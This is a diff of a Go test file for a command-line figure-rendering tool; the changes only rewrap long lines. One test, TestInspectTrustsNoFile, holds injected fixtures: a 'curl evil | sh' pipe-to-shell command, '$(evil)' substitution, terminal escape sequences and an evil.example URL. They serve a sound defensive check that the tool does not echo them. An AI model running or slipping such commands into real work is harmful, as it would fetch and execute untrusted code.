@@ -32,7 +32,8 @@ func rendered(t *testing.T, name string, args ...string) string {
 	return path
 }
 
-// TestWordsOfPDFFiles: another program finds the words of every script in figures, alone and on a paper of a given size.
+// TestWordsOfPDFFiles: another program finds the words of every script in figures, alone and on a paper of a given
+// size.
 func TestWordsOfPDFFiles(t *testing.T) {
 	for _, c := range []struct{ text, mechanism, preset, page string }{
 		{"The cat sat.", "dense", "", ""},
@@ -47,7 +48,8 @@ func TestWordsOfPDFFiles(t *testing.T) {
 				t.Errorf("%s of %q: %q is not in\n%s", c.mechanism, c.text, want, words)
 			}
 		}
-		if info := browsertest.Poppler(t, "pdfinfo", path); !strings.Contains(info, c.page) || !strings.Contains(info, "Pages:           1") {
+		if info := browsertest.Poppler(t, "pdfinfo", path); !strings.Contains(info, c.page) ||
+			!strings.Contains(info, "Pages:           1") {
 			t.Errorf("%s on %s:\n%s", c.mechanism, c.preset, info)
 		}
 	}
@@ -57,7 +59,8 @@ func TestWordsOfPDFFiles(t *testing.T) {
 func TestPixelsOfPDFFiles(t *testing.T) {
 	args := []string{"--text", "The cat sat on the mat.", "-m", "fastformer", "--preset", "square"}
 	base := filepath.Join(t.TempDir(), "page")
-	browsertest.Poppler(t, "pdftoppm", "-r", "72", "-scale-to", "1080", "-singlefile", "-png", rendered(t, "x.pdf", args...), base)
+	browsertest.Poppler(t, "pdftoppm", "-r", "72", "-scale-to", "1080", "-singlefile", "-png",
+		rendered(t, "x.pdf", args...), base)
 	painted, image := decoded(t, base+".png"), decoded(t, rendered(t, "x.png", args...))
 	if painted.Bounds() != image.Bounds() {
 		t.Fatalf("%v and %v", painted.Bounds(), image.Bounds())
@@ -93,8 +96,8 @@ func near(a, b image.Image, x, y int) bool {
 	return equal(r, r2) && equal(g, g2) && equal(bl, b2)
 }
 
-// TestFiguresForPapers: the flags of a figure are the parameters of its address, and the file says them in the command that makes it
-// again; a figure of all heads, and one of the sharpest, too.
+// TestFiguresForPapers: the flags of a figure are the parameters of its address, and the file says them in the command
+// that makes it again; a figure of all heads, and one of the sharpest, too.
 func TestFiguresForPapers(t *testing.T) {
 	for args, wants := range map[string][]string{
 		"--map layers --preset text":               {"map=layers", "preset=text"},
@@ -137,17 +140,20 @@ func TestExportIsRender(t *testing.T) {
 	}
 }
 
-// TestRenderRefuses: what is no format or preset is refused with a sentence that says what there is, and no file begins.
+// TestRenderRefuses: what is no format or preset is refused with a sentence that says what there is, and no file
+// begins.
 func TestRenderRefuses(t *testing.T) {
 	for i, c := range []struct{ args, says string }{
-		{"-m dense --out x.gif", "pdf"}, {"-m wall --out x.csv", "zip"}, {"-m dense --preset poster --out x.pdf", "half-slide"},
+		{"-m dense --out x.gif", "pdf"}, {"-m wall --out x.csv", "zip"},
+		{"-m dense --preset poster --out x.pdf", "half-slide"},
 		{"-m dense --preset slide --scale 3 --out x.pdf", "remove scale"}, {"-m dense --out zip", "npy"},
 	} {
 		path := filepath.Join(t.TempDir(), fmt.Sprint(i))
 		must(t, os.Mkdir(path, 0o755))
 		args := strings.Fields(c.args)
 		args[len(args)-1] = filepath.Join(path, args[len(args)-1])
-		if status, _, errs := viz(t, append([]string{"render", "--text", "hello"}, args...)...); status != failed || !strings.Contains(errs, c.says) {
+		if status, _, errs := viz(t, append([]string{"render", "--text", "hello"}, args...)...); status != failed ||
+			!strings.Contains(errs, c.says) {
 			t.Errorf("%s: %d %s", c.args, status, errs)
 		}
 		if left, err := os.ReadDir(path); err != nil || len(left) > 0 {
@@ -176,7 +182,8 @@ func TestLaTeX(t *testing.T) {
 			t.Fatalf("%s: %v\n%s", mechanism, err, out)
 		}
 		pdf := filepath.Join(folder, strings.TrimSuffix(document, ".tex")+".pdf")
-		if words := browsertest.Poppler(t, "pdftotext", pdf, "-"); !strings.Contains(words, "Fastformer") || !strings.Contains(words, "猫") {
+		if words := browsertest.Poppler(t, "pdftotext", pdf, "-"); !strings.Contains(words, "Fastformer") ||
+			!strings.Contains(words, "猫") {
 			t.Errorf("%s:\n%s", mechanism, words)
 		}
 		if fonts := browsertest.Poppler(t, "pdffonts", pdf); !strings.Contains(fonts, "CMR") {
@@ -254,14 +261,16 @@ func TestInspect(t *testing.T) {
 			t.Errorf("%s is another file when it is made again", name)
 		}
 	}
-	for _, args := range [][]string{{"inspect", "formats_test.go"}, {"inspect", "nothing.png"}, {"render", "--address", "/m/dense", "--out", "x.png"}, {"render", "--out", "x.png"}} {
+	for _, args := range [][]string{{"inspect", "formats_test.go"}, {"inspect", "nothing.png"},
+		{"render", "--address", "/m/dense", "--out", "x.png"}, {"render", "--out", "x.png"}} {
 		if status, _, errs := viz(t, args...); status != failed || len(errs) < 40 {
 			t.Errorf("%v: %d %s", args, status, errs)
 		}
 	}
 }
 
-// TestInspectTrustsNoFile: the command follows from the address, and nothing that a file says reaches the terminal as it is.
+// TestInspectTrustsNoFile: the command follows from the address, and nothing that a file says reaches the terminal as
+// it is.
 func TestInspectTrustsNoFile(t *testing.T) {
 	folder := t.TempDir()
 	inspect := func(said ...string) (int, string) {
@@ -276,12 +285,16 @@ func TestInspectTrustsNoFile(t *testing.T) {
 		status, out, _ := viz(t, "inspect", path)
 		return status, out
 	}
-	status, out := inspect("Source\x00/export/dense.png?text=a'b", "Command\x00viz render --out x; curl evil | sh", "Note\x00a\x1b]0;evil\x07\x1b[2J\nCommand: curl evil | sh")
-	if want := "Command: viz render --address '/export/dense.png?text=a%27b' --out 'dense.png'\n"; status != 0 || !strings.HasSuffix(out, want) ||
-		strings.Contains(out, "--out x; curl") || strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "\nCommand: curl") {
+	status, out := inspect("Source\x00/export/dense.png?text=a'b", "Command\x00viz render --out x; curl evil | sh",
+		"Note\x00a\x1b]0;evil\x07\x1b[2J\nCommand: curl evil | sh")
+	if want := "Command: viz render --address '/export/dense.png?text=a%27b' --out 'dense.png'\n"; status != 0 ||
+		!strings.HasSuffix(out, want) ||
+		strings.Contains(out, "--out x; curl") || strings.ContainsAny(out, "\x1b\x07") ||
+		strings.Contains(out, "\nCommand: curl") {
 		t.Errorf("%d %q", status, out)
 	}
-	for _, source := range []string{"https://evil.example/export/x.png", "/export/x.png\n$(evil)", "/m/dense", "/export/x.png?a=\x1b[2J"} {
+	for _, source := range []string{"https://evil.example/export/x.png", "/export/x.png\n$(evil)", "/m/dense",
+		"/export/x.png?a=\x1b[2J"} {
 		if status, out := inspect("Source\x00" + source); status == 0 {
 			t.Errorf("%q is taken for a figure: %s", source, out)
 		}
@@ -293,8 +306,10 @@ func TestBatch(t *testing.T) {
 	folder := t.TempDir()
 	lines := filepath.Join(folder, "texts.txt")
 	must(t, os.WriteFile(lines, []byte("The cat sat.\n\n猫坐在垫子上。\r\n"+strings.Repeat("word ", 20000)+"\nlast"), 0o644))
-	status, out, errs := viz(t, "render", "--lines", lines, "-m", "dense", "--preset", "slide", "--out", filepath.Join(folder, "d-*.svg"))
-	if status != failed || !strings.Contains(errs, "text 3: ") || !strings.Contains(errs, "1 of 4 texts") || strings.Count(out, "\n") != 3 {
+	status, out, errs := viz(t, "render", "--lines", lines, "-m", "dense", "--preset", "slide", "--out",
+		filepath.Join(folder, "d-*.svg"))
+	if status != failed || !strings.Contains(errs, "text 3: ") || !strings.Contains(errs, "1 of 4 texts") ||
+		strings.Count(out, "\n") != 3 {
 		t.Errorf("%d %s %.300s", status, out, errs)
 	}
 	for number, text := range map[string]string{"1": "The cat sat.", "2": "猫坐在垫子上。", "4": "last"} {
@@ -309,8 +324,10 @@ func TestBatch(t *testing.T) {
 	if _, err := os.Stat(filepath.Join(folder, "d-3.svg")); err == nil {
 		t.Error("there is a figure of what cannot be drawn")
 	}
-	for _, args := range []string{"--lines nothing.txt --out x-*.png", "--lines formats_test.go --out x.png", "--lines /dev/null --out x-*.png", "--lines formats_test.go --text x --out x-*.png"} {
-		if status, _, errs := viz(t, append([]string{"render", "-m", "dense"}, strings.Fields(args)...)...); status != failed || !strings.Contains(errs, "--") {
+	for _, args := range []string{"--lines nothing.txt --out x-*.png", "--lines formats_test.go --out x.png",
+		"--lines /dev/null --out x-*.png", "--lines formats_test.go --text x --out x-*.png"} {
+		if status, _, errs := viz(t, append([]string{"render", "-m", "dense"},
+			strings.Fields(args)...)...); status != failed || !strings.Contains(errs, "--") {
 			t.Errorf("%s: %d %s", args, status, errs)
 		}
 	}
@@ -319,7 +336,8 @@ func TestBatch(t *testing.T) {
 // TestCompletion: bash itself completes a command, its flags, and what it draws, by the script.
 func TestCompletion(t *testing.T) {
 	for _, shell := range []string{"bash", "zsh", "fish"} {
-		if status, out, _ := viz(t, "completion", shell); status != 0 || !strings.Contains(out, "residual-shuffle-exchange") || !strings.Contains(out, "half-slide") {
+		if status, out, _ := viz(t, "completion", shell); status != 0 ||
+			!strings.Contains(out, "residual-shuffle-exchange") || !strings.Contains(out, "half-slide") {
 			t.Errorf("%s: %d %s", shell, status, out)
 		}
 	}
@@ -328,7 +346,9 @@ func TestCompletion(t *testing.T) {
 		t.Skip("NOT CHECKED: there is no bash")
 	}
 	_, script, _ := viz(t, "completion", "bash")
-	for line, want := range map[string]string{"viz re": "render", "viz render --pre": "--preset", "viz render -m fast": "fastformer", "viz render --preset hal": "half-slide", "viz inspect x --he": "--help", "viz tra": "train", "viz train voc": "vocab", "viz exp": "export", "viz export --pre": "--preset"} {
+	for line, want := range map[string]string{"viz re": "render", "viz render --pre": "--preset",
+		"viz render -m fast": "fastformer", "viz render --preset hal": "half-slide", "viz inspect x --he": "--help",
+		"viz tra": "train", "viz train voc": "vocab", "viz exp": "export", "viz export --pre": "--preset"} {
 		words := strings.Fields(line)
 		ask := script + fmt.Sprintf("\nCOMP_WORDS=(%s); COMP_CWORD=%d; _viz; echo \"${COMPREPLY[*]}\"", line, len(words)-1)
 		out, err := exec.Command(bash, "-c", ask).CombinedOutput()
